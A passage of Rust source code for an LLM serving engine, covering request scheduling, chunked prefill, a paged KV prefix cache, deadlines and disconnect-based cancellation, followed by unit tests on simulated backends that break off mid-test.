use crate::util::rng::Rng;

/// A generation request.
#[derive(Debug, Clone)]
pub struct GenRequest {
    pub prompt: String,
    pub max_tokens: usize,
    pub temperature: f64,
    pub top_k: usize,
    pub seed: u64,
    /// Remaining deadline budget in milliseconds, anchored to the engine's
    /// clock when the request is submitted (queue waiting counts toward
    /// it): generation and queueing stop at the anchor + budget with
    /// `finish_reason: "deadline"`. Relative rather than an absolute
    /// instant so the same request means the same thing under the wall
    /// clock and the virtual-time driver (see `api::parse_gen_request` for
    /// the wire field of the same name).
    pub deadline_ms: Option<u64>,
}

impl Default for GenRequest {
    fn default() -> GenRequest {
        GenRequest {
            prompt: String::new(),
            max_tokens: 64,
            temperature: 0.0,
            top_k: 0,
            seed: 0,
            deadline_ms: None,
        }
    }
}

/// Completion accounting (OpenAI `usage` block + serving latencies).
#[derive(Debug, Clone, Default)]
pub struct Usage {
    pub prompt_tokens: usize,
    pub completion_tokens: usize,
    /// Prompt tokens served from the KV prefix cache instead of being
    /// re-prefilled (chat turns resend the whole conversation; this is how
    /// much of it was already resident).
    pub cached_tokens: usize,
    /// Time to first token.
    pub ttft: Duration,
    pub total: Duration,
    /// Why generation stopped: "stop" (EOS), "length", "kv_exhausted",
    /// "cancelled" (receiver dropped mid-stream), or "deadline".
    pub finish_reason: &'static str,
}

/// Streamed generation events.
#[derive(Debug)]
pub enum GenEvent {
    Token(String),
    Done(Usage),
    Error(String),
}

/// Handle to an in-flight generation.
///
/// Dropping the handle (or just its `rx`) *is* the cancellation signal:
/// the engine's next token send fails, and it frees the batch slot and KV
/// blocks within one decode step (`finish_reason: "cancelled"`).
pub struct Generation {
    pub rx: Receiver<GenEvent>,
}

impl Generation {
    /// Drain to completion, concatenating token text.
    pub fn collect(self) -> Result<(String, Usage)> {
        let mut text = String::new();
        loop {
            match self.rx.recv() {
                Ok(GenEvent::Token(t)) => text.push_str(&t),
                Ok(GenEvent::Done(usage)) => return Ok((text, usage)),
                Ok(GenEvent::Error(e)) => anyhow::bail!("generation failed: {e}"),
                Err(_) => anyhow::bail!("engine dropped the generation"),
            }
        }
    }

    /// Explicit abort. Equivalent to dropping the handle — and implemented
    /// exactly that way: consuming `self` drops `rx`, the engine's next
    /// event send into the closed channel fails, and the slot plus its KV
    /// pages are reaped within one decode step with
    /// `finish_reason: "cancelled"` (`engine_tests::explicit_cancel_aborts_
    /// like_a_drop` pins the equivalence).
    pub fn cancel(self) {
        let Generation { rx } = self;
        drop(rx);
    }
}

/// Engine tuning knobs.
#[derive(Debug, Clone)]
pub struct EngineConfig {
    /// Max requests queued beyond the running batch before rejections.
    pub max_queue: usize,
    /// Poll interval when completely idle.
    pub idle_wait: Duration,
    /// Treat a failed event send (receiver dropped) as an abort, freeing
    /// the slot and KV blocks immediately. `false` reproduces the
    /// run-to-completion baseline the abandonment bench compares against.
    pub abort_on_disconnect: bool,
    /// Max prompt tokens prefilled per engine iteration per sequence, so
    /// long prompts interleave with decode steps instead of monopolizing
    /// an admission round. `0` = unchunked (one prefill call per prompt,
    /// prompt capped at the backend's `prefill_len` — required by backends
    /// that cannot prefill at an offset, e.g. PJRT).
    pub prefill_chunk: usize,
    /// Content-hash prefix reuse in the paged KV allocator; `false`
    /// reproduces the prefill-everything baseline.
    pub prefix_cache: bool,
    /// Serve SSE chunks by splicing escaped tokens into a pre-dumped JSON
    /// template instead of building a `Json` value per token (the API
    /// layer reads this; output is byte-identical either way).
    pub zero_copy_sse: bool,
}

impl Default for EngineConfig {
    fn default() -> EngineConfig {
        EngineConfig {
            max_queue: 256,
            idle_wait: Duration::from_millis(2),
            abort_on_disconnect: true,
            prefill_chunk: 128,
            prefix_cache: true,
            zero_copy_sse: false,
        }
    }
}

enum Msg {
    Submit(GenRequest, Sender<GenEvent>),
    Stop,
}

/// Public engine handle (clone-cheap).
pub struct Engine {
    tx: Sender<Msg>,
    handle: Option<std::thread::JoinHandle<()>>,
    pub model: String,
    /// Copied from [`EngineConfig::zero_copy_sse`] so the API layer can
    /// pick the token-splicing SSE encoder without holding the config.
    pub zero_copy_sse: bool,
    metrics: Registry,
}

enum SlotState {
    /// Prompt suffix still prefilling (chunk by chunk).
    Prefill,
    /// Generating: `next_token` is fed at the next decode step.
    Decode,
}

struct Slot {
    seq: SeqBlocks,
    tx: Sender<GenEvent>,
    rng: Rng,
    params: SamplingParams,
    decoder: StreamDecoder,
    state: SlotState,
    /// Full (truncated) prompt token ids.
    prompt: Vec<i32>,
    /// Prompt tokens whose KV exists (cache hit + prefilled chunks).
    prefilled: usize,
    /// Token to feed at the next decode step.
    next_token: i32,
    completion_tokens: usize,
    max_tokens: usize,
    prompt_tokens: usize,
    cached_tokens: usize,
    /// Clock-us when the request was enqueued (TTFT/total anchor).
    started_us: u64,
    first_token_at_us: Option<u64>,
    /// Absolute clock-us deadline (anchored at submission).
    deadline_us: Option<u64>,
}

struct Waiting {
    req: GenRequest,
    tx: Sender<GenEvent>,
    enqueued_us: u64,
    deadline_us: Option<u64>,
}

impl Engine {
    /// Spawn the engine thread around a backend, on the wall clock.
    pub fn start(backend: Box<dyn Backend>, cfg: EngineConfig, metrics: Registry) -> Engine {
        let clock: Arc<dyn Clock> = WallClock::new();
        Engine::start_with_clock(backend, cfg, metrics, clock)
    }

    /// Spawn the engine thread with an explicit time source. Tests inject a
    /// `SimClock` here; production uses [`Engine::start`].
    pub fn start_with_clock(
        backend: Box<dyn Backend>,
        cfg: EngineConfig,
        metrics: Registry,
        clock: Arc<dyn Clock>,
    ) -> Engine {
        let (tx, rx) = channel::<Msg>();
        let zero_copy_sse = cfg.zero_copy_sse;
        let core = EngineCore::new(backend, cfg, metrics.clone(), clock);
        let model = core.model().to_string();
        let handle = std::thread::spawn(move || {
            run_loop(core, rx);
        });
        Engine { tx, handle: Some(handle), model, zero_copy_sse, metrics }
    }

    /// Submit a request; events stream on the returned handle.
    pub fn submit(&self, req: GenRequest) -> Generation {
        let (tx, rx) = channel();
        if self.tx.send(Msg::Submit(req, tx.clone())).is_err() {
            let _ = tx.send(GenEvent::Error("engine stopped".into()));
        }
        Generation { rx }
    }

    /// Convenience: submit and wait.
    pub fn generate(&self, req: GenRequest) -> Result<(String, Usage)> {
        self.submit(req).collect()
    }

    pub fn metrics(&self) -> &Registry {
        &self.metrics
    }

    pub fn stop(&mut self) {
        let _ = self.tx.send(Msg::Stop);
        if let Some(h) = self.handle.take() {
            let _ = h.join();
        }
    }
}

impl Drop for Engine {
    fn drop(&mut self) {
        self.stop();
    }
}

fn run_loop(mut core: EngineCore, rx: Receiver<Msg>) {
    'outer: loop {
        // --- intake -----------------------------------------------------
        loop {
            match rx.try_recv() {
                Ok(Msg::Submit(req, tx)) => core.submit(req, tx),
                Ok(Msg::Stop) => break 'outer,
                Err(TryRecvError::Empty) => break,
                Err(TryRecvError::Disconnected) => break 'outer,
            }
        }
        core.step();
        if core.is_idle() {
            // Idle: block briefly for new work.
            match rx.recv_timeout(core.idle_wait()) {
                Ok(Msg::Submit(req, tx)) => core.submit(req, tx),
                Ok(Msg::Stop) => break 'outer,
                Err(_) => {}
            }
        }
    }
    core.shutdown();
}

/// The engine loop body as a steppable state machine: intake via
/// [`EngineCore::submit`], one admission+prefill+decode round per
/// [`EngineCore::step`]. All time is read from the injected [`Clock`], so
/// the identical core serves requests on a thread under `WallClock` and
/// inline under a `SimClock` in the discrete-event harness.
pub struct EngineCore {
    backend: Box<dyn Backend>,
    cfg: EngineConfig,
    clock: Arc<dyn Clock>,
    model: String,
    geo: BatchGeometry,
    alloc: BlockAllocator,
    slots: Vec<Option<Slot>>,
    waiting: VecDeque<Waiting>,
    next_seq_id: u64,
    /// Tokens prefilled per slot per iteration (one backend call covers all
    /// prefilling slots; each row is ≤ chunk_cap and the HLO window).
    chunk_cap: usize,
    /// Longest admissible prompt (oversized prompts keep their tail).
    max_prompt: usize,
    queue_gauge: Arc<Gauge>,
    running_gauge: Arc<Gauge>,
    tokens_ctr: Arc<Counter>,
    req_ctr: Arc<Counter>,
    rejected_ctr: Arc<Counter>,
    cancelled_ctr: Arc<Counter>,
    deadline_ctr: Arc<Counter>,
    prefix_hit_ctr: Arc<Counter>,
    evict_ctr: Arc<Counter>,
    cow_ctr: Arc<Counter>,
    chunk_ctr: Arc<Counter>,
    step_hist: Arc<Histogram>,
    ttft_hist: Arc<Histogram>,
    /// Allocator-internal counters are published as deltas once per step.
    last_stats: CacheStats,
}

impl EngineCore {
    pub fn new(
        backend: Box<dyn Backend>,
        cfg: EngineConfig,
        metrics: Registry,
        clock: Arc<dyn Clock>,
    ) -> EngineCore {
        let model = backend.model_name().to_string();
        let geo = backend.geometry().clone();
        let mut alloc = BlockAllocator::new(geo.n_blocks, geo.block_size, geo.max_blocks);
        alloc.set_cache_enabled(cfg.prefix_cache);
        let slots: Vec<Option<Slot>> = (0..geo.batch).map(|_| None).collect();
        let chunk_cap = if cfg.prefill_chunk == 0 {
            geo.prefill_len
        } else {
            cfg.prefill_chunk.clamp(1, geo.prefill_len)
        };
        // Unchunked prefill is bounded by one HLO window; chunked prefill is
        // bounded by the page budget, minus one page kept for generation
        // headroom.
        let max_prompt = if cfg.prefill_chunk == 0 {
            geo.prefill_len
        } else {
            (geo.block_size * geo.max_blocks).saturating_sub(geo.block_size).max(geo.block_size)
        };
        let m: &str = &model;
        EngineCore {
            queue_gauge: metrics.gauge("llm_waiting_requests", &[("model", m)]),
            running_gauge: metrics.gauge("llm_running_requests", &[("model", m)]),
            tokens_ctr: metrics.counter("llm_tokens_generated_total", &[("model", m)]),
            req_ctr: metrics.counter("llm_requests_total", &[("model", m)]),
            rejected_ctr: metrics.counter("llm_requests_rejected_total", &[("model", m)]),
            cancelled_ctr: metrics.counter("llm_cancelled_total", &[("model", m)]),
            deadline_ctr: metrics.counter("llm_deadline_total", &[("model", m)]),
            prefix_hit_ctr: metrics.counter("llm_prefix_hit_tokens_total", &[("model", m)]),
            evict_ctr: metrics.counter("llm_prefix_evictions_total", &[("model", m)]),
            cow_ctr: metrics.counter("llm_cow_forks_total", &[("model", m)]),
            chunk_ctr: metrics.counter("llm_prefill_chunks_total", &[("model", m)]),
            step_hist: metrics.histogram("llm_decode_step_seconds", &[("model", m)]),
            ttft_hist: metrics.histogram("llm_ttft_seconds", &[("model", m)]),
            backend,
            cfg,
            clock,
            model,
            geo,
            alloc,
            slots,
            waiting: VecDeque::new(),
            next_seq_id: 1,
            chunk_cap,
            max_prompt,
            last_stats: CacheStats::default(),
        }
    }

    pub fn model(&self) -> &str {
        &self.model
    }

    pub fn idle_wait(&self) -> Duration {
        self.cfg.idle_wait
    }

    /// No running slots and nothing queued: nothing will happen until the
    /// next `submit`.
    pub fn is_idle(&self) -> bool {
        self.waiting.is_empty() && self.slots.iter().all(|s| s.is_none())
    }

    /// Queued requests that have not reached a batch slot yet (admission may
    /// be blocked on KV pressure; the driver should keep stepping).
    pub fn has_waiting(&self) -> bool {
        !self.waiting.is_empty()
    }

    pub fn n_active(&self) -> usize {
        self.slots.iter().filter(|s| s.is_some()).count()
    }

    /// Enqueue a request. The deadline budget (if any) starts now.
    pub fn submit(&mut self, req: GenRequest, tx: Sender<GenEvent>) {
        self.req_ctr.inc();
        if self.waiting.len() >= self.cfg.max_queue {
            self.rejected_ctr.inc();
            let _ = tx.send(GenEvent::Error("queue full".into()));
            return;
        }
        let now = self.clock.now_us();
        let deadline_us = req.deadline_ms.map(|ms| now + ms.saturating_mul(1000));
        self.waiting.push_back(Waiting { req, tx, enqueued_us: now, deadline_us });
    }

    /// One engine iteration: queue-deadline expiry, admission, slot-deadline
    /// expiry, one prefill chunk round, one decode step.
    pub fn step(&mut self) {
        self.expire_queue();
        self.queue_gauge.set(self.waiting.len() as i64);
        self.admit();
        self.expire_slots();
        self.prefill_step();

        let n_active = self.n_active();
        self.running_gauge.set(n_active as i64);
        if n_active == 0 {
            self.publish_cache_stats();
            return;
        }
        self.decode_step();
        self.publish_cache_stats();
        #[cfg(debug_assertions)]
        {
            let live: Vec<&SeqBlocks> =
                self.slots.iter().filter_map(|s| s.as_ref().map(|s| &s.seq)).collect();
            if let Err(e) = self.alloc.check_invariants(&live) {
                panic!("allocator invariants violated: {e}");
            }
        }
    }

    /// Fail all in-flight and queued work ("engine stopped").
    pub fn shutdown(&mut self) {
        for slot in self.slots.iter_mut() {
            if let Some(s) = slot.take() {
                self.alloc.free_seq(&s.seq);
                let _ = s.tx.send(GenEvent::Error("engine stopped".into()));
            }
        }
        for w in self.waiting.drain(..) {
            let _ = w.tx.send(GenEvent::Error("engine stopped".into()));
        }
        self.running_gauge.set(0);
        self.queue_gauge.set(0);
    }

    /// Expired queue entries never reach a batch slot: answer them with
    /// `finish_reason: "deadline"` while they are still cheap to drop.
    fn expire_queue(&mut self) {
        if self.waiting.is_empty() {
            return;
        }
        let now = self.clock.now_us();
        let deadline_ctr = &self.deadline_ctr;
        self.waiting.retain(|w| match w.deadline_us {
            Some(d) if d <= now => {
                deadline_ctr.inc();
                let _ = w.tx.send(GenEvent::Done(Usage {
                    prompt_tokens: 0,
                    completion_tokens: 0,
                    cached_tokens: 0,
                    ttft: Duration::ZERO,
                    total: Duration::from_micros(now.saturating_sub(w.enqueued_us)),
                    finish_reason: "deadline",
                }));
                false
            }
            _ => true,
        });
    }

    /// Admission: allocate pages for queued prompts; no backend call yet.
    fn admit(&mut self) {
        for slot_idx in 0..self.geo.batch {
            if self.slots[slot_idx].is_some() {
                continue;
            }
            let Some(w) = self.waiting.front() else { break };
            let mut toks = tokenizer::encode_prompt(&w.req.prompt);
            if toks.len() > self.max_prompt {
                toks.drain(..toks.len() - self.max_prompt);
            }
            if !self.alloc.can_admit(toks.len()) {
                break; // KV pressure: leave in queue (FIFO order kept)
            }
            let w = self.waiting.pop_front().unwrap();
            let seq = match self.alloc.create_seq(self.next_seq_id, &toks) {
                Ok(s) => s,
                Err(e) => {
                    let _ = w.tx.send(GenEvent::Error(e.to_string()));
                    continue;
                }
            };
            self.next_seq_id += 1;
            self.prefix_hit_ctr.add(seq.cached as u64);
            let seq_id = seq.seq_id;
            self.slots[slot_idx] = Some(Slot {
                prefilled: seq.cached,
                cached_tokens: seq.cached,
                prompt_tokens: toks.len(),
                prompt: toks,
                seq,
                rng: Rng::new(w.req.seed ^ seq_id),
                params: SamplingParams {
                    temperature: w.req.temperature,
                    top_k: w.req.top_k,
                    seed: w.req.seed,
                },
                tx: w.tx,
                decoder: StreamDecoder::default(),
                state: SlotState::Prefill,
                next_token: 0,
                completion_tokens: 0,
                max_tokens: w.req.max_tokens.max(1),
                started_us: w.enqueued_us,
                first_token_at_us: None,
                deadline_us: w.deadline_us,
            });
        }
    }

    /// Per-slot deadline sweep (covers both prefill and decode phases).
    fn expire_slots(&mut self) {
        let now = self.clock.now_us();
        for i in 0..self.geo.batch {
            let expired = self.slots[i]
                .as_ref()
                .is_some_and(|s| s.deadline_us.is_some_and(|d| d <= now));
            if expired {
                let s = self.slots[i].take().unwrap();
                self.deadline_ctr.inc();
                finish(&mut self.alloc, s, "deadline", now);
            }
        }
    }

    /// One bounded prefill chunk for every slot still in `Prefill` state.
    fn prefill_step(&mut self) {
        let prefilling: Vec<usize> = (0..self.geo.batch)
            .filter(|&i| {
                self.slots[i].as_ref().is_some_and(|s| matches!(s.state, SlotState::Prefill))
            })
            .collect();
        if prefilling.is_empty() {
            return;
        }
        let geo = &self.geo;
        let mut tokens = vec![0i32; geo.batch * geo.prefill_len];
        let mut lens = vec![0i32; geo.batch];
        let mut offsets = vec![0i32; geo.batch];
        let mut tables = vec![0i32; geo.batch * geo.max_blocks];
        for &i in &prefilling {
            let s = self.slots[i].as_ref().unwrap();
            let n = self.chunk_cap.min(s.prompt.len() - s.prefilled);
            for (j, &t) in s.prompt[s.prefilled..s.prefilled + n].iter().enumerate() {
                tokens[i * geo.prefill_len + j] = t;
            }
            lens[i] = n as i32;
            offsets[i] = s.prefilled as i32;
            let row = self.alloc.table_row(&s.seq);
            tables[i * geo.max_blocks..(i + 1) * geo.max_blocks].copy_from_slice(&row);
        }
        match self.backend.prefill(&tokens, &lens, &offsets, &tables) {
            Ok(logits) => {
                // Read the clock after the backend call: under a SimClock
                // the backend's charge has advanced virtual time.
                let now = self.clock.now_us();
                for &i in &prefilling {
                    let mut s = self.slots[i].take().unwrap();
                    s.prefilled += lens[i] as usize;
                    s.seq.written = s.seq.written.max(s.prefilled);
                    self.chunk_ctr.inc();
                    if s.prefilled < s.prompt.len() {
                        self.slots[i] = Some(s); // more chunks to go
                        continue;
                    }
                    // Prefill complete: the last chunk's logits carry the
                    // last prompt position — sample the first token.
                    let row = &logits[i * self.geo.vocab..(i + 1) * self.geo.vocab];
                    let first = sample(row, &s.params, &mut s.rng);
                    s.completion_tokens = 1;
                    s.first_token_at_us = Some(now);
                    self.ttft_hist
                        .observe(now.saturating_sub(s.started_us) as f64 / 1e6);
                    self.tokens_ctr.inc();
                    if first == tokenizer::EOS {
                        finish(&mut self.alloc, s, "stop", now);
                    } else {
                        let text = s.decoder.push(first);
                        let gone =
                            !text.is_empty() && s.tx.send(GenEvent::Token(text)).is_err();
                        if gone && self.cfg.abort_on_disconnect {
                            self.cancelled_ctr.inc();
                            finish(&mut self.alloc, s, "cancelled", now);
                        } else if s.completion_tokens >= s.max_tokens {
                            finish(&mut self.alloc, s, "length", now);
                        } else {
                            s.next_token = first;
                            s.state = SlotState::Decode;
                            self.slots[i] = Some(s);
                        }
                    }
                }
            }
            Err(e) => {
                for &i in &prefilling {
                    if let Some(s) = self.slots[i].take() {
                        self.alloc.free_seq(&s.seq);
                        let _ = s.tx.send(GenEvent::Error(e.to_string()));
                    }
                }
            }
        }
    }

    /// One decode step advancing every active slot.
    fn decode_step(&mut self) {
        let geo = &self.geo;
        let mut tokens = vec![0i32; geo.batch];
        let mut positions = vec![0i32; geo.batch];
        let mut tables = vec![0i32; geo.batch * geo.max_blocks];
        let mut active = vec![false; geo.batch];
        let mut oom: Vec<usize> = Vec::new();
        for (i, slot) in self.slots.iter_mut().enumerate() {
            let Some(s) = slot else { continue };
            if !matches!(s.state, SlotState::Decode) {
                continue; // still prefilling: scratch row, inactive
            }
            // The fed token occupies position seq.len; grow the page table.
            match self.alloc.append_token(&mut s.seq, s.next_token) {
                Ok(true) => {
                    active[i] = true;
                    tokens[i] = s.next_token;
                    positions[i] = (s.seq.len - 1) as i32;
                    let row = self.alloc.table_row(&s.seq);
                    tables[i * geo.max_blocks..(i + 1) * geo.max_blocks]
                        .copy_from_slice(&row);
                }
                Ok(false) | Err(_) => oom.push(i),
            }
        }
        let now = self.clock.now_us();
        for i in oom {
            if let Some(s) = self.slots[i].take() {
                finish(&mut self.alloc, s, "kv_exhausted", now);
            }
        }

        if !active.iter().any(|&a| a) {
            return;
        }
        let t0 = self.clock.now_us();
        match self.backend.decode(&tokens, &positions, &tables, &active) {
            Ok(logits) => {
                let now = self.clock.now_us();
                self.step_hist.observe(now.saturating_sub(t0) as f64 / 1e6);
                for i in 0..self.geo.batch {
                    if !active[i] {
                        continue;
                    }
                    let Some(mut s) = self.slots[i].take() else { continue };
                    // The fed position's KV is now resident in its page.
                    s.seq.written = s.seq.len;
                    let row = &logits[i * self.geo.vocab..(i + 1) * self.geo.vocab];
                    let tok = sample(row, &s.params, &mut s.rng);
                    s.completion_tokens += 1;
                    self.tokens_ctr.inc();
                    if tok == tokenizer::EOS {
                        finish(&mut self.alloc, s, "stop", now);
                    } else {
                        let text = s.decoder.push(tok);
                        // A failed send means the receiver is gone — the
                        // client disconnected somewhere up the chain.
                        // Abort: the slot and its KV blocks are back in
                        // the pool before the next step.
                        let gone =
                            !text.is_empty() && s.tx.send(GenEvent::Token(text)).is_err();
                        if gone && self.cfg.abort_on_disconnect {
                            self.cancelled_ctr.inc();
                            finish(&mut self.alloc, s, "cancelled", now);
                            continue;
                        }
                        s.next_token = tok;
                        if s.completion_tokens >= s.max_tokens {
                            finish(&mut self.alloc, s, "length", now);
                        } else {
                            self.slots[i] = Some(s);
                        }
                    }
                }
            }
            Err(e) => {
                for slot in self.slots.iter_mut() {
                    if let Some(s) = slot.take() {
                        self.alloc.free_seq(&s.seq);
                        let _ = s.tx.send(GenEvent::Error(e.to_string()));
                    }
                }
            }
        }
    }

    /// Publish allocator-internal counter deltas as engine metrics.
    fn publish_cache_stats(&mut self) {
        let st = self.alloc.stats();
        self.evict_ctr.add(st.evictions - self.last_stats.evictions);
        self.cow_ctr.add(st.cow_forks - self.last_stats.cow_forks);
        self.last_stats = st;
    }
}

fn finish(alloc: &mut BlockAllocator, mut slot: Slot, reason: &'static str, now_us: u64) {
    let tail = slot.decoder.finish();
    if !tail.is_empty() {
        let _ = slot.tx.send(GenEvent::Token(tail));
    }
    alloc.free_seq(&slot.seq);
    let usage = Usage {
        prompt_tokens: slot.prompt_tokens,
        completion_tokens: slot.completion_tokens,
        cached_tokens: slot.cached_tokens,
        ttft: slot
            .first_token_at_us
            .map(|t| Duration::from_micros(t.saturating_sub(slot.started_us)))
            .unwrap_or_default(),
        total: Duration::from_micros(now_us.saturating_sub(slot.started_us)),
        finish_reason: reason,
    };
    let _ = slot.tx.send(GenEvent::Done(usage));
}

/// Build an engine for a simulated model profile.
pub fn sim_engine(model: &str, time_scale: f64, metrics: Registry) -> Option<Engine> {
    let backend = super::backend::SimBackend::by_name(model, time_scale)?;
    Some(Engine::start(Box::new(backend), EngineConfig::default(), metrics))
}

/// Build an engine around the real PJRT `tiny` model. The compiled prefill
/// HLO starts at position 0 and writes every page it touches, so chunked
/// prefill and prefix reuse are disabled (DESIGN.md §Prefix cache).
pub fn pjrt_engine(artifacts_dir: &std::path::Path, model: &str, metrics: Registry) -> Result<Engine> {
    let backend = super::backend::PjrtBackend::load(artifacts_dir, model)?;
    let cfg = EngineConfig { prefill_chunk: 0, prefix_cache: false, ..Default::default() };
    Ok(Engine::start(Box::new(backend), cfg, metrics))
}

pub use self::sim_engine as engine_for_profile;

#[derive(Debug)]
pub struct EngineInfo {
    pub model: String,
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::llmserver::backend::SimBackend;
    use crate::util::clock::SimClock;
    use std::sync::Arc;
    use std::time::Instant;

    fn sim() -> Engine {
        Engine::start(
            Box::new(SimBackend::by_name("intel-neural-7b", 0.0).unwrap()),
            EngineConfig::default(),
            Registry::new(),
        )
    }

    #[test]
    fn single_request_completes() {
        let engine = sim();
        let (text, usage) = engine
            .generate(GenRequest { prompt: "count from 1 to 10".into(), ..Default::default() })
            .unwrap();
        assert_eq!(text, "1 2 3 4 5 6 7 8 9 10");
        assert_eq!(usage.finish_reason, "stop");
        assert!(usage.prompt_tokens > 10);
        assert_eq!(usage.cached_tokens, 0, "cold cache");
        assert_eq!(usage.completion_tokens, 21, "20 bytes + EOS");
    }

    #[test]
    fn repeat_request_hits_the_prefix_cache() {
        let engine = sim();
        let req = GenRequest { prompt: "count from 1 to 10".into(), ..Default::default() };
        let (_, first) = engine.generate(req.clone()).unwrap();
        assert_eq!(first.cached_tokens, 0);
        let (text, second) = engine.generate(req).unwrap();
        assert_eq!(text, "1 2 3 4 5 6 7 8 9 10", "cache hit must not change output");
        assert!(
            second.cached_tokens >= second.prompt_tokens.saturating_sub(engine_block_size()),
            "second turn should reuse nearly the whole prompt: cached {} of {}",
            second.cached_tokens,
            second.prompt_tokens
        );
        assert!(second.cached_tokens < second.prompt_tokens, "last token is recomputed");
        let m = engine.metrics().render();
        assert!(m.contains("llm_prefix_hit_tokens_total{model=\"intel-neural-7b\"}"), "{m}");
    }

    fn engine_block_size() -> usize {
        SimBackend::by_name("intel-neural-7b", 0.0).unwrap().geometry().block_size
    }

    #[test]
    fn max_tokens_truncates() {
        let engine = sim();
        let (text, usage) = engine
            .generate(GenRequest { prompt: "x".into(), max_tokens: 5, ..Default::default() })
            .unwrap();
        assert_eq!(text, "1 2 3");
        assert_eq!(usage.finish_reason, "length");
        assert_eq!(usage.completion_tokens, 5);
    }

    #[test]
    fn many_concurrent_requests_all_complete() {
        let engine = Arc::new(sim());
        let handles: Vec<_> = (0..32)
            .map(|i| {
                let e = engine.clone();
                std::thread::spawn(move || {
                    let (text, usage) = e
                        .generate(GenRequest {
                            prompt: format!("req {i}"),
                            ..Default::default()
                        })
                        .unwrap();
                    assert_eq!(text, "1 2 3 4 5 6 7 8 9 10");
                    assert_eq!(usage.finish_reason, "stop");
                })
            })
            .collect();
        for h in handles {
            h.join().unwrap();
        }
        let m = engine.metrics().render();
        assert!(m.contains("llm_requests_total{model=\"intel-neural-7b\"} 32"), "{m}");
    }

    #[test]
    fn tokens_stream_incrementally() {
        let engine = sim();
        let gen = engine.submit(GenRequest { prompt: "hi".into(), ..Default::default() });
        let mut events = Vec::new();
        while let Ok(ev) = gen.rx.recv() {
            let done = matches!(ev, GenEvent::Done(_));
            events.push(ev);
            if done {
                break;
            }
        }
        let token_events =
            events.iter().filter(|e| matches!(e, GenEvent::Token(_))).count();
        assert!(token_events >= 10, "got {token_events} token events");
    }

    #[test]
    fn engine_stop_fails_inflight_cleanly() {
        let mut engine = sim();
        let gen = engine.submit(GenRequest { prompt: "x".into(), ..Default::default() });
        engine.stop();
        // Either completed before the stop or errored; never hangs.
        let mut done = false;
        while let Ok(ev) = gen.rx.recv() {
            if matches!(ev, GenEvent::Done(_) | GenEvent::Error(_)) {
                done = true;
                break;
            }
        }
        assert!(done || gen.rx.recv().is_err());
    }

    // --- virtual time: the same core, stepped inline under a SimClock -----

    #[test]
    fn engine_core_runs_under_virtual_time() {
        let clock = SimClock::new();
        let backend =
            SimBackend::by_name("intel-neural-7b", 1.0).unwrap().with_clock(clock.clone());
        let mut core = EngineCore::new(
            Box::new(backend),
            EngineConfig::default(),
            Registry::new(),
            clock.clone(),
        );
        let (tx, rx) = channel();
        core.submit(
            GenRequest { prompt: "count from 1 to 10".into(), ..Default::default() },
            tx,
        );
        let mut steps = 0;
        while !core.is_idle() {
            core.step();
            steps += 1;
            assert!(steps < 10_000, "engine never finished under the sim clock");
        }
        let (text, usage) = Generation { rx }.collect().unwrap();
        assert_eq!(text, "1 2 3 4 5 6 7 8 9 10");
        assert_eq!(usage.finish_reason, "stop");
        // time_scale 1.0 compute was charged to the virtual clock, not to
        // this test's wall clock.
        assert!(clock.now_us() >= 100_000, "virtual clock barely moved: {}", clock.now_us());
        assert!(usage.ttft > Duration::ZERO);
        assert!(usage.total >= usage.ttft);
    }

    #[test]
    fn engine_core_is_deterministic_for_a_fixed_seed() {
        let run = || {
            let clock = SimClock::new();
            let backend =
                SimBackend::by_name("intel-neural-7b", 1.0).unwrap().with_clock(clock.clone());
            let mut core = EngineCore::new(
                Box::new(backend),
                EngineConfig::default(),
                Registry::new(),
                clock.clone(),
            );
            let rxs: Vec<_> = (0..4)
                .map(|i| {
                    let (tx, rx) = channel();
                    core.submit(
                        GenRequest {
                            prompt: format!("user {i} says hello"),
                            temperature: 0.8,
                            seed: 7,
                            ..Default::default()
                        },
                        tx,
                    );
                    rx
                })
                .collect();
            let mut steps = 0;
            while !core.is_idle() {
                core.step();
                steps += 1;
                assert!(steps < 100_000);
            }
            rxs.into_iter()
                .map(|rx| {
                    let (text, u) = Generation { rx }.collect().unwrap();
                    (text, u.ttft, u.total, u.completion_tokens, u.finish_reason)
                })
                .collect::<Vec<_>>()
        };
        assert_eq!(run(), run(), "same seed must replay bit-identically");
    }

    // --- request lifecycle: cancellation + deadlines ----------------------

    use crate::llmserver::backend::{Backend, BatchGeometry};

    /// A backend that streams 'a' forever (never emits EOS): the only way a
    /// request ends is max_tokens, deadline, or cancellation — exactly what
    /// the lifecycle tests need to observe.
    struct InfiniteBackend {
        geometry: BatchGeometry,
        step_delay: Duration,
    }

    impl InfiniteBackend {
        fn new(batch: usize, step_delay: Duration) -> InfiniteBackend {
            InfiniteBackend {
                geometry: BatchGeometry {
                    batch,
                    prefill_len: 64,
                    block_size: 16,
                    n_blocks: 1025,
                    max_blocks: 64,
                    vocab: tokenizer::VOCAB,
                },
                step_delay,
            }
        }

        fn one_hot(&self, rows: &[bool]) -> Vec<f32> {
            let v = self.geometry.vocab;
            let mut out = vec![0.0f32; self.geometry.batch * v];
            for (b, &on) in rows.iter().enumerate() {
                if on {
                    out[b * v + b'a' as usize] = 100.0;
                }
            }
            out
        }
    }

    impl Backend for InfiniteBackend {
        fn geometry(&self) -> &BatchGeometry {
            &self.geometry
        }

        fn model_name(&self) -> &str {
            "infinite"
        }

        fn prefill(
            &mut self,
            _tokens: &[i32],
            lens: &[i32],
            _offsets: &[i32],
            _tables: &[i32],
        ) -> Result<Vec<f32>> {
            let rows: Vec<bool> = lens.iter().map(|&l| l > 0).collect();
            Ok(self.one_hot(&rows))
        }

        fn decode(
            &mut self,
            _tokens: &[i32],
            _positions: &[i32],
            _tables: &[i32],
            active: &[bool],
        ) -> Result<Vec<f32>> {
            if !self.step_delay.is_zero() {
                std::thread::sleep(self.step_delay);
            }
            Ok(self.one_hot(active))
        }
    }

    fn infinite_engine(batch: usize) -> (Engine, Registry) {
        let metrics = Registry::new();
        let engine = Engine::start(
            Box::new(InfiniteBackend::new(batch, Duration::from_millis(1))),
            EngineConfig::default(),
            metrics.clone(),
        );
        (engine, metrics)
    }

    #[test]
    fn dropped_receiver_frees_slot_and_kv_blocks() {
        let (engine, metrics) = infinite_engine(2);
        // Fill both batch slots with never-ending generations...
        let g1 = engine
            .submit(GenRequest { prompt: "a".into(), max_tokens: 1_000_000, ..Default::default() });
        let g2 = engine
            .submit(GenRequest { prompt: "b".into(), max_tokens: 1_000_000, ..Default::default() });
        assert!(matches!(g1.rx.recv(), Ok(GenEvent::Token(_))));
        assert!(matches!(g2.rx.recv(), Ok(GenEvent::Token(_))));
